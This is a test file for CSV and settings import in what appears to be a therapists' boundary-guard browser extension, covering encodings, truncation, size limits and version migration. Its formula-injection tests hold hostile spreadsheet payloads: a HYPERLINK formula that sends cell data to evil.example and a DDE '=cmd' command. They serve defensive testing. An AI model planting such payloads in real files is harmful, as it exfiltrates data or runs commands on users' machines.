import { readdirSync, readFileSync } from 'node:fs';
import { csvParseRows } from 'd3-dsv';
import fc from 'fast-check';
import { describe, expect, it, vi } from 'vitest';
import { clientsToCsv, MAX_CLIENTS, MAX_CSV_BYTES, parseClientsCsv } from '../../src/clients/csv';
import type { Client } from '../../src/clients/types';
import type { LogEntry } from '../../src/core/log';
import { ACTION_KINDS, PLATFORMS } from '../../src/core/vocabulary';
import { defaultSettings, SETTINGS_VERSION } from '../../src/policy/defaults';
import { migrateSettings, parseSettingsFile, SETTINGS_FILE_FORMAT, settingsFile } from '../../src/policy/migrations';
import { settingsSchema } from '../../src/policy/schema';
import { backupFile, MAX_SETTINGS_FILE_BYTES, parseBackupFile, settingsFileTooLarge } from '../../src/ui/options/backup';
import { logToCsv } from '../../src/ui/options/log-view';

/**
 * Promise 4: bad input gets a clear error and changes nothing. Settings files
 * (malformed, truncated, oversized, wrong format, wrong version, every older
 * version), client CSVs (bad encodings as File.text() decodes them, formula
 * injection, missing headers, 100,000 rows) and the CSV exports.
 */

const FORMULA = /^[=+\-@\t\r]/;

/**
 * What the File API's "UTF-8 decode" gives for these bytes (File.text() in Firefox): a UTF-8 BOM dropped, anything
 * invalid as U+FFFD. Chromium also honours a UTF-16 BOM; test/e2e/bad-input.test.ts covers what it does.
 */
function fileText(bytes: Uint8Array): string {
  return new TextDecoder('utf-8').decode(bytes);
}

function utf16(text: string, endian: 'le' | 'be', bom: boolean): Uint8Array {
  const out: number[] = bom ? (endian === 'le' ? [0xff, 0xfe] : [0xfe, 0xff]) : [];
  for (const unit of Array.from(text, (c) => c.charCodeAt(0))) {
    out.push(...(endian === 'le' ? [unit & 0xff, unit >> 8] : [unit >> 8, unit & 0xff]));
  }
  return new Uint8Array(out);
}

function latin1(text: string): Uint8Array {
  return new Uint8Array(Array.from(text, (c) => c.charCodeAt(0) & 0xff));
}

function csvRefusal(text: string): string {
  const result = parseClientsCsv(text);
  if (result.ok) return expect.fail('expected the CSV to be refused');
  return result.error;
}

describe('settings files: size', () => {
  it('a 50 MB file is refused from its size alone, before JSON.parse, with the size in the message', () => {
    expect(settingsFileTooLarge(50 * 1024 * 1024)).toBe(
      'The file is too large to be a settings file (50.0 MB; at most 10.0 MB). Nothing was read.',
    );
    expect(settingsFileTooLarge(MAX_SETTINGS_FILE_BYTES)).toBeNull();
    const parse = vi.spyOn(JSON, 'parse');
    const huge = `{"format":"${SETTINGS_FILE_FORMAT}","padding":"${'x'.repeat(50 * 1024 * 1024)}"}`;
    const result = parseBackupFile(huge);
    expect(parse).not.toHaveBeenCalled();
    parse.mockRestore();
    expect(result).toEqual({
      ok: false,
      problems: [],
      error: expect.stringMatching(/^The file is too large to be a settings file \(50\.0 MB/),
    });
  });

  it('a settings file with 10,000 clients is well within the limit', () => {
    const clients: Client[] = Array.from({ length: MAX_CLIENTS }, (_, i) => ({
      id: crypto.randomUUID(),
      name: `Firstname${i} Lastname-Longer${i}`,
      aliases: [`Nick${i}`],
      handles: { facebook: `first.last.${i}`, x: `handle_${i}`, instagram: `insta.${i}`, yelp: `First L. ${i}` },
    }));
    const file = backupFile(defaultSettings(), clients);
    expect(file.length).toBeLessThan(MAX_SETTINGS_FILE_BYTES / 2);
    const parsed = parseBackupFile(file);
    expect(parsed.ok && parsed.value.clients?.length).toBe(MAX_CLIENTS);
  });
});

describe('settings files: every older version migrates without loss', () => {
  const dir = 'test/fixtures/settings';
  const fixtures = readdirSync(dir)
    .filter((f) => /^v\d+\.json$/.test(f))
    .map((f) => ({ version: Number(f.slice(1, -5)), text: readFileSync(`${dir}/${f}`, 'utf8') }))
    .sort((a, b) => a.version - b.version);

  /** Every string in a JSON value long enough to be the therapist's own words (clause texts, reply text, practice). */
  function ownWords(value: unknown): string[] {
    if (typeof value === 'string') return value.length >= 12 && value !== SETTINGS_FILE_FORMAT ? [value] : [];
    if (typeof value !== 'object' || value === null) return [];
    return Object.values(value).flatMap(ownWords);
  }

  it('there is a fixture for every version up to the current one', () => {
    expect(fixtures.map((f) => f.version)).toEqual(Array.from({ length: SETTINGS_VERSION }, (_, i) => i + 1));
  });

  it.each(fixtures.map((f) => [f.version, f]))(
    'version %i reads as valid current settings, keeping every text the therapist wrote',
    (_v, { text }) => {
      const result = parseSettingsFile(text);
      if (!result.ok) return expect.fail(result.error);
      expect(result.value.version).toBe(SETTINGS_VERSION);
      expect(settingsSchema.safeParse(result.value).success).toBe(true);
      const kept = ownWords(result.value);
      for (const words of ownWords(JSON.parse(text))) expect(kept).toContain(words);
      // The same settings stored without "format" (as storage.local holds them) migrate the same way.
      const { format: _format, ...stored } = JSON.parse(text) as Record<string, unknown>;
      expect(migrateSettings(stored)).toEqual(result);
      // And the result written out reads back unchanged: a migration is done once.
      expect(parseSettingsFile(settingsFile(result.value))).toEqual(result);
    },
  );

  it('the current version reads back exactly as written', () => {
    const current = fixtures.find((f) => f.version === SETTINGS_VERSION);
    if (!current) return expect.fail('no fixture of the current version');
    const { format: _format, ...written } = JSON.parse(current.text) as Record<string, unknown>;
    expect(parseSettingsFile(current.text)).toEqual({ ok: true, value: written });
  });
});

describe('settings files, property-based: truncated, wrong version, any bytes', () => {
  const valid = settingsFile(defaultSettings());

  it('every truncation of a valid file is refused with a message (all of them, not a sample)', () => {
    for (let length = 0; length < valid.trimEnd().length; length++) {
      const result = parseSettingsFile(valid.slice(0, length));
      expect(result.ok, `truncated at ${length}`).toBe(false);
      if (!result.ok) expect(result.error.length).toBeGreaterThan(10);
    }
  });

  it('any version that is not a known one is refused, naming the version', () => {
    fc.assert(
      fc.property(
        fc
          .oneof(fc.integer(), fc.double(), fc.string(), fc.constant(null))
          .filter((v) => !(Number.isInteger(v) && (v as number) >= 1 && (v as number) <= SETTINGS_VERSION)),
        (version) => {
          const result = parseSettingsFile(JSON.stringify({ ...JSON.parse(valid), version }));
          expect(result.ok).toBe(false);
          if (!result.ok) expect(result.error).toMatch(/^version: /);
        },
      ),
      { numRuns: 300 },
    );
  });

  it('any bytes at all, decoded as File.text() decodes them, give a result and never throw (settings file with clients)', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 2000 }), (bytes) => {
        const result = parseBackupFile(fileText(bytes));
        if (!result.ok) expect(result.error.length).toBeGreaterThan(0);
      }),
      { numRuns: 500 },
    );
  });

  it('a valid file with random bytes flipped is either still valid settings or refused, never half-read', () => {
    const bytes = new TextEncoder().encode(valid);
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.nat(bytes.length - 1), fc.integer({ min: 1, max: 255 })), { minLength: 1, maxLength: 5 }),
        (flips) => {
          const copy = bytes.slice();
          for (const [at, mask] of flips) copy[at] = (copy[at] as number) ^ mask;
          const result = parseSettingsFile(fileText(copy));
          if (result.ok) expect(settingsSchema.safeParse(result.value).success).toBe(true);
          else expect(result.error.length).toBeGreaterThan(0);
        },
      ),
      { numRuns: 500 },
    );
  });

  it('a file in another format (a CSV, a clients export, an HTML page, JSON of another app) is refused naming "format"', () => {
    for (const text of [
      'name,aliases\nAnna,\n',
      '<!doctype html><title>x</title>',
      '{"name":"package","version":1}',
      `{"format":"boundary-guard.vault","version":1}`,
      '[]',
      'null',
      '',
    ]) {
      const result = parseBackupFile(text);
      expect(result.ok, text).toBe(false);
      if (!result.ok) expect(result.error).toMatch(/JSON|format|object/);
    }
  });
});

describe('client CSVs: encodings as the UTF-8 decode of File.text() reads them', () => {
  const csv = 'name,aliases\r\nMaría José Pérez,Majo\r\nZoë Ødegård,\r\n';

  it.each([
    ['UTF-16 LE with BOM', utf16(csv, 'le', true)],
    ['UTF-16 BE with BOM', utf16(csv, 'be', true)],
    ['UTF-16 LE without BOM', utf16(csv, 'le', false)],
    ['UTF-16 BE without BOM', utf16(csv, 'be', false)],
  ])('%s is refused: it says UTF-16 and how to save as CSV UTF-8', (_name, bytes) => {
    expect(csvRefusal(fileText(bytes))).toBe(
      'The file is UTF-16 text, not UTF-8 (it holds NUL characters). Save it from your spreadsheet as "CSV UTF-8" and try again.',
    );
  });

  it('Latin-1 / Windows-1252 with accents is refused as not UTF-8 (nothing is imported with mangled names)', () => {
    expect(csvRefusal(fileText(latin1(csv)))).toMatch(/not valid UTF-8 text.*CSV UTF-8/);
    // Windows-1252 curly quotes.
    expect(csvRefusal(fileText(new Uint8Array([...latin1('name\n'), 0x93, 0x41, 0x6e, 0x6e, 0x61, 0x94, 0x0a])))).toMatch(/UTF-8/);
  });

  it('UTF-8 with or without a BOM reads the same', () => {
    const plain = parseClientsCsv(fileText(new TextEncoder().encode(csv)));
    const bom = parseClientsCsv(fileText(new Uint8Array([0xef, 0xbb, 0xbf, ...new TextEncoder().encode(csv)])));
    expect(plain.ok && plain.value.accepted.map((c) => c.name)).toEqual(['María José Pérez', 'Zoë Ødegård']);
    expect(bom).toEqual(plain);
  });

  it('ASCII-only Latin-1 (no accents) is valid UTF-8 and is read', () => {
    const result = parseClientsCsv(fileText(latin1('name\nAnna Berg\n')));
    expect(result.ok && result.value.accepted).toHaveLength(1);
  });

  it('any bytes at all give a result or a clear refusal, never an exception', () => {
    fc.assert(
      fc.property(fc.uint8Array({ maxLength: 3000 }), (bytes) => {
        const result = parseClientsCsv(fileText(new Uint8Array([...new TextEncoder().encode('name,aliases,x\n'), ...bytes])));
        if (!result.ok) expect(result.error.length).toBeGreaterThan(10);
        else for (const r of result.value.rejected) expect(r.reason.length).toBeGreaterThan(0);
      }),
      { numRuns: 500 },
    );
  });
});

describe('client CSVs: size and shape', () => {
  // How long the refusal takes is a figure for the benchmark, not a timed test (it swings with the machine's load).
  it('100,000 rows are refused with the count and the limit', () => {
    const rows = Array.from({ length: 100_000 }, (_, i) => `Client Number${i},nick${i}`);
    const text = `name,aliases\r\n${rows.join('\r\n')}\r\n`;
    expect(text.length).toBeLessThan(MAX_CSV_BYTES);
    expect(csvRefusal(text)).toBe(`Too many rows: 100000 (at most ${MAX_CLIENTS}).`);
  });

  it('a missing header row, or a header without "name", is refused saying what was found', () => {
    expect(csvRefusal('María José Pérez,Majo\nSam Lee,\n')).toMatch(
      /^No column with the client's name: .*found: "María José Pérez", "Majo"/,
    );
    expect(csvRefusal('aliases,x\nMajo,@majo\n')).toMatch(/^No column with the client's name: .*found: "aliases", "x"/);
  });

  it('a file cut off inside a quoted field: the rows before it are read, the open field is rejected with the reason', () => {
    const result = parseClientsCsv('name,aliases\nAnna Berg,\n"Sam Lee,Sammy\nRobin Park,\n');
    if (!result.ok) return expect.fail(result.error);
    expect(result.value.accepted.map((c) => c.name)).toEqual(['Anna Berg']);
    expect(result.value.rejected).toEqual([
      { line: 3, name: 'Sam Lee,Sammy\nRobin Park,', reason: 'the name runs over several lines (is a quote left open?)' },
    ]);
  });
});

describe('formula injection', () => {
  it('=HYPERLINK(...) and other formulas are refused on import, naming the row', () => {
    const result = parseClientsCsv(
      'name,aliases\n=HYPERLINK("https://evil.example/?"&A1;"click"),\nAnna Berg,"=cmd|\' /C calc\'!A0"\n+SUM(1;1),\n@SUM(A1),\n-2+3,\nSam Lee,\n',
    );
    if (!result.ok) return expect.fail(result.error);
    expect(result.value.accepted.map((c) => c.name)).toEqual(['Sam Lee']);
    expect(result.value.rejected.map((r) => [r.line, r.reason])).toEqual([
      [2, expect.stringMatching(/^"=HYPERLINK.*looks like a spreadsheet formula$/)],
      [3, expect.stringMatching(/^"=cmd.*looks like a spreadsheet formula$/)],
      [4, expect.stringMatching(/formula/)],
      [5, expect.stringMatching(/formula/)],
      [6, expect.stringMatching(/formula/)],
    ]);
  });

  const anyText = fc.oneof(
    fc.string({ unit: 'binary', maxLength: 30 }),
    fc.constantFrom('=HYPERLINK("https://evil.example","x")', '+1+1', '-1', '@SUM(A1)', '\t=1', '\r=1', '=1', "'=1"),
  );

  it('no cell of the client CSV export can run as a formula, and each reads back as written (after the apostrophe)', () => {
    const clientArb = fc.record({
      id: fc.uuid(),
      name: anyText,
      aliases: fc.array(
        anyText.filter((a) => !a.includes(';')),
        { maxLength: 3 },
      ),
      handles: fc.dictionary(fc.constantFrom(...PLATFORMS), anyText) as fc.Arbitrary<Client['handles']>,
    });
    fc.assert(
      fc.property(fc.array(clientArb, { maxLength: 5 }), (clients) => {
        const rows = csvParseRows(clientsToCsv(clients)).slice(1);
        for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA);
        rows.forEach((row, i) => {
          const original = clients[i]?.name ?? '';
          expect(row[0]).toBe(FORMULA.test(original) ? `'${original}` : original);
        });
      }),
      { numRuns: 300 },
    );
  });

  it('no cell of the log CSV export can run as a formula (a reason or a name typed on a page)', () => {
    const entryArb: fc.Arbitrary<LogEntry> = fc.record({
      at: fc.integer({ min: 0, max: 4_102_444_800_000 }),
      platform: fc.constantFrom(...PLATFORMS),
      kind: fc.constantFrom(...ACTION_KINDS),
      level: fc.constantFrom('remind', 'confirm', 'reason', 'block'),
      client: fc.constantFrom('yes', 'possible', 'no'),
      choice: fc.constantFrom('stopped', 'proceeded', 'noticed', 'blocked'),
      reason: anyText,
      person: anyText,
    });
    fc.assert(
      fc.property(fc.array(entryArb, { maxLength: 5 }), (entries) => {
        for (const cell of csvParseRows(logToCsv(entries)).flat()) expect(cell).not.toMatch(FORMULA);
      }),
      { numRuns: 300 },
    );
  });
});
